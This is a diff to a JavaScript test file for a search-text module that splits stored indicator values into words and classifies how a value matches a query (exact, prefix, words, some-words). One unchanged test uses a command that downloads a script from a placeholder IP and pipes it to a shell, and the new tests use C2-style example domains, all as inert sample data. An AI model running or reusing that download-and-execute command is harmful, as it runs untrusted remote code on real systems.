@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { MAX_QUERY, normOf, prepareQuery, termsOf, wordsOf } from '../../src/db/search-text.js';
+import { matchOf, MAX_QUERY, normOf, prepareQuery, termsOf, wordsOf } from '../../src/db/search-text.js';
 
 describe('search text: what is stored and what a query looks for', () => {
   it('splits values into lowercase words of letters and digits, whatever the punctuation', () => {
@@ -8,7 +8,7 @@ describe('search text: what is stored and what a query looks for', () => {
     assert.deepEqual(wordsOf('/bin/sh -c "curl http://198.51.100.9:8080/x|sh"'), ['bin', 'sh', 'c', 'curl', 'http', '198', '51', '100', '9', '8080', 'x', 'sh']);
     assert.deepEqual(wordsOf('Global\\Mütex_1'), ['global', 'mütex', '1']);
     assert.deepEqual(wordsOf('--- ...'), []);
-    assert.equal(termsOf('C2.example.test'), 'c2 example test');
+    assert.equal(termsOf(['C2.example.test', 'www.example.test']), 'c2 example test www', 'a field\'s document: each word once');
   });
 
   it('cuts overlong words and keeps the first 400 words of a value', () => {
@@ -38,5 +38,16 @@ describe('search text: what is stored and what a query looks for', () => {
     assert.deepEqual(domain.words, ['example', 'co']);
     assert.equal(domain.lastIsPrefix, false, 'the last word has two characters');
     assert.equal(prepareQuery('example.com').lastIsPrefix, true);
+  });
+
+  it('says how a value matches a query: whole, by its start, by all its words or some of them', () => {
+    const query = prepareQuery('c2.example.test');
+    assert.equal(matchOf('C2.Example.Test', query), 'exact');
+    assert.equal(matchOf('c2.example.test.evil.example', query), 'prefix');
+    assert.equal(matchOf('curl http://c2.example.testing/x', query), 'words', 'the last word as a prefix');
+    assert.equal(matchOf('www.example.test', query), 'some-words');
+    assert.equal(matchOf('unrelated', query), undefined);
+    assert.equal(matchOf('abc', prepareQuery('ab')), undefined, 'no prefix of two characters');
+    assert.equal(matchOf('x ab y', prepareQuery('ab')), 'words', 'but the word itself');
   });
 });
